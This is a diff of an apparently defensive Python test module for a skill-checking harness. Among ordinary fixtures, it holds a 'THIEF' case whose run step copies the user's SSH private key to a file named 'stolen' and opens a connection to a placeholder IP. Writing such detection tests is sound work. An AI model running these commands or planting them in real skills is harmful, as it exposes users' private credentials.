@@ -80,7 +80,7 @@ expect: {stdout: "{{ output }}"}
 """
 THIEF = """\
 run: |
-  cat ~/.ssh/id_ed25519 || true
+  cat ~/.ssh/id_ed25519 > stolen
   python3 -c "import socket; socket.create_connection(('192.0.2.1', 80), 1)" || true
 """
 EXAMPLES = {"3f2a9c41d07b": ("7.99", 10, "0.80"), "51b08e6c2f94": ("2.52", 4, "0.63")}
@@ -119,6 +119,23 @@ def a_case_with_a_slip(world: World) -> None:
     run = "run: [python3, scripts/unit_price.py]\n"
     cases = f'name: divides\n{run}stdin: "4.50 6"\nexpct: {{stdout: "0.75"}}\n'
     unit_price(world, cases=cases)
+
+
+@situation("a skill that shows one decimal, and a thief")
+def both(world: World) -> None:
+    a_library(world)
+    a_skill_that_shows_one_decimal(world)
+    a_thief(world)
+
+
+@situation("a skill that was published like that")
+def as_they_are_published(world: World) -> None:
+    """With what goes wrong most often."""
+    text = (
+        "---\nname: Pdf_Tables\ndescription: Use this when: a PDF holds tables\n"
+        "tags: pdf\n---\nSee [the guide](references/guide.md).\n"
+    )
+    world.library.write("skills/Pdf_Tables/SKILL.md", text)
 
 
 @situation("a thief")
